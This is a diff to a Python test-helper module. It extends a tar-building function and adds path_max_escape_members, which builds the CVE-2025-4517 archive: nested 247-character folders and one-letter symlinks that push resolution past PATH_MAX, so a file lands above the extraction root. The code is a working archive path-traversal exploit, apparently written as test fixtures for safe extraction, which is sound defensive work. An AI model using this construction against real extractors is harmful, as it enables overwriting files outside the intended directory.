@@ -112,17 +112,72 @@ def sha256(data):
 
 
 def tar_bytes(entries, mode='w:gz'):
-  """Returns a tar archive of `entries`: name -> bytes, or a TarInfo."""
+  """Returns a tar archive of `entries`.
+
+  Args:
+    entries: a dict name -> bytes or TarInfo, or a list, in archive order, of
+      TarInfo and (name, bytes) pairs (a list may repeat a name).
+    mode: tarfile's write mode (compression).
+  """
+  items = entries.items() if isinstance(entries, dict) else entries
   buffer = io.BytesIO()
   with tarfile.open(fileobj=buffer, mode=mode) as archive:
-    for name, content in entries.items():
+    for item in items:
+      content = item if isinstance(item, tarfile.TarInfo) else item[1]
       if isinstance(content, tarfile.TarInfo):
         archive.addfile(content)
       else:
-        info = tarfile.TarInfo(name)
+        info = tarfile.TarInfo(item[0])
         info.size = len(content)
         archive.addfile(info, io.BytesIO(content))
   return buffer.getvalue()
+
+
+def tar_link(name, target, kind=tarfile.SYMTYPE):
+  """A symbolic (or, with kind=tarfile.LNKTYPE, hard) link member."""
+  info = tarfile.TarInfo(name)
+  info.type = kind
+  info.linkname = target
+  return info
+
+
+def tar_dir(name):
+  info = tarfile.TarInfo(name)
+  info.type = tarfile.DIRTYPE
+  info.mode = 0o755
+  return info
+
+
+# The CVE-2025-4517 construction: 16 folders of 247-character names, each
+# beside a one-letter symlink to it, so that 'a/b/.../p' is short but
+# resolves to a path longer than PATH_MAX (4096), where os.path.realpath
+# stops resolving and goes on lexically.
+_LONG_NAME = 'd' * 247
+_STEPS = 'abcdefghijklmnop'
+# A link in 'a/b/.../p' back up to the archive root: 16 levels of '..'.
+PATH_MAX_LINK = '/'.join(_STEPS) + '/' + 'l' * 254
+
+
+def path_max_escape_members(climb, payload_name, payload=b'pwned'):
+  """The members of an archive that writes `climb` folders above its root.
+
+  'escape' links to PATH_MAX_LINK + '/..' * climb: lexically (and to
+  realpath) a folder inside the archive, really `climb` levels above its
+  root; then `escape/<payload_name>` is written through it.
+
+  Returns:
+    A list for `tar_bytes`.
+  """
+  members = []
+  folder = ''
+  for step in _STEPS:
+    members.append(tar_dir(folder + _LONG_NAME))
+    members.append(tar_link(folder + step, _LONG_NAME))
+    folder += _LONG_NAME + '/'
+  members.append(tar_link(PATH_MAX_LINK, '../' * len(_STEPS)))
+  members.append(tar_link('escape', PATH_MAX_LINK + '/..' * climb))
+  members.append(('escape/' + payload_name, payload))
+  return members
 
 
 def random_image(rng, height, width, channels=3):
